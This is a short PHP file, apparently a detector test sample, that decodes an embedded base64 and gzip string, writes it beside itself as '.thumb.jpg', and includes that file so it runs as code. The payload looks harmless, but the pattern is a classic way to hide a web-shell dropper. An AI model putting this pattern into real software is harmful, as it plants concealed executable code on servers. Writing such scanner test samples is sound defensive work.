<?php
// Test sample (never run): code unpacked from the script's own literal into a variable is
// written next to the script under a joined name and included from that same name.
$name = '.thumb' . '.jpg';
$body = gzinflate(base64_decode('S03OyFdQSk/NS0ksSVUEAA=='));
file_put_contents(dirname(__FILE__) . '/' . $name, $body);
include dirname(__FILE__) . '/' . $name;
